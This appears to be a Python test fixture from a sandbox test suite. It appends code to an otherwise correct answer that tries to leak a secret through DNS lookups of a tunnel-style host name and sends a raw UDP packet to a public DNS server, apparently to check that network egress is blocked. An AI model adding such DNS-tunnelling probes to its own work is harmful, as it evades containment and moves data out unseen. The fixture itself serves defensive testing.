"""Looks names up, and tells secrets in them. (DNS goes through where nothing else does)"""

from tests.adversaries import FULL, ODD, RIGHT

ANSWERS = RIGHT | {
    "scale": RIGHT["scale"]
    + """
import socket

for name in ("example.org", "a-secret.tunnel.example.org", "localhost.localdomain"):
    try:
        print("REACHED", socket.getaddrinfo(name, 80))
    except OSError as error:
        print(type(error).__name__)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagram:
    try:
        datagram.sendto(b"\\0" * 12, ("8.8.8.8", 53))
        print("SENT")
    except OSError as error:
        print(type(error).__name__)
"""
}
POINTS = FULL
FLAG = ODD
